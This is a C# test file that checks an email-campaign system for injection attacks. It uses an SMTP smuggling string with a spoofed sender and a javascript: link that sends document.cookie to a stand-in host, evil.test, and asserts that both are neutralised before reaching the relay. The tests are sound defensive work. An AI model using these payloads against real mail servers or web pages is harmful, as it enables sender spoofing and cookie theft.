using System.Text.Json.Nodes;
using Bulk.Tests.Infrastructure;

namespace Bulk.Tests.Delivery;

/// <summary>What a campaign's templates and its recipients' data can put on the wire, read from the bytes a relay received.</summary>
[Collection(BrokerCollection.Name)]
public sealed class WireContentTests(BrokerFixture broker)
{
    [Fact]
    public async Task ABareCarriageReturn_InATemplateOrInData_ReachesTheRelayOnlyAsCrlf()
    {
        // SMTP smuggling: a relay that ends the data at <CR>.<CR> would take what follows for a second message, sent
        // with any MAIL FROM, around Front__AllowedSenders.
        const string smuggled = "\r.\rMAIL FROM:<ceo@bank.com>\rRCPT TO:<victim@example.net>\rDATA\rSubject: smuggled\r";
        var mail = await DeliverOneAsync(new JsonObject
        {
            ["from"] = "News <news@example.com>",
            ["subject"] = "Hi",
            ["text"] = "X\r.\rY {{ v }}",
            ["html"] = "<p>X\r.\rY {{ v }}</p>",
            ["recipients"] = new JsonArray(new JsonObject { ["email"] = "a@example.org", ["data"] = new JsonObject { ["v"] = smuggled } }),
        });

        var raw = mail.Raw!;
        var bare = Enumerable.Range(0, raw.Length).Where(i => raw[i] == '\r' && (i + 1 == raw.Length || raw[i + 1] != '\n')).ToArray();
        Assert.True(bare.Length == 0, $"{bare.Length} bare CRs reached the relay, the first at byte {bare.FirstOrDefault()}");
        // Each CR is a line break of its own, and the dot after it was stuffed on the way and unstuffed at the relay.
        Assert.StartsWith("X\n.\nY \n.\nMAIL FROM:<ceo@bank.com>\n", mail.Message.TextBody!.ReplaceLineEndings("\n"), StringComparison.Ordinal);
        // In html a value's CR is a character reference already; the template's own is a line break.
        Assert.StartsWith("<p>X\n.\nY &#xD;.&#xD;MAIL FROM:&lt;ceo@bank.com&gt;&#xD;", mail.Message.HtmlBody!.ReplaceLineEndings("\n"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task AScriptLinkFromData_ReachesTheRelayNeutralised_WhileAnHttpsLinkFromDataIsKept()
    {
        var mail = await DeliverOneAsync(new JsonObject
        {
            ["from"] = "News <news@example.com>",
            ["subject"] = "Hi",
            ["text"] = "{{ site }}",
            ["html"] = "<a href=\"{{ site }}\">your site</a> <a href=\"{{ profile }}\">your profile</a>",
            ["recipients"] = new JsonArray(new JsonObject
            {
                ["email"] = "a@example.org",
                ["data"] = new JsonObject { ["site"] = "JaVa\tScRiPt:fetch('https://evil.test/?c='+document.cookie)", ["profile"] = "https://example.com/p/1" },
            }),
        });

        Assert.Equal("<a href=\"#\">your site</a> <a href=\"https://example.com/p/1\">your profile</a>", mail.Message.HtmlBody);
        Assert.StartsWith("JaVa\tScRiPt:fetch(", mail.Message.TextBody, StringComparison.Ordinal);
    }

    private async Task<ReceivedMail> DeliverOneAsync(JsonObject campaign)
    {
        await using var smtp = await TestSmtpServer.StartAsync();
        await using var system = await BulkSystem.StartFrontAsync(broker);
        await system.StartWorkerAsync(smtp);

        await system.PostAsync(campaign.ToJsonString());

        await smtp.WaitForMailsAsync(1, TimeSpan.FromSeconds(60));
        return Assert.Single(smtp.Mails);
    }
}
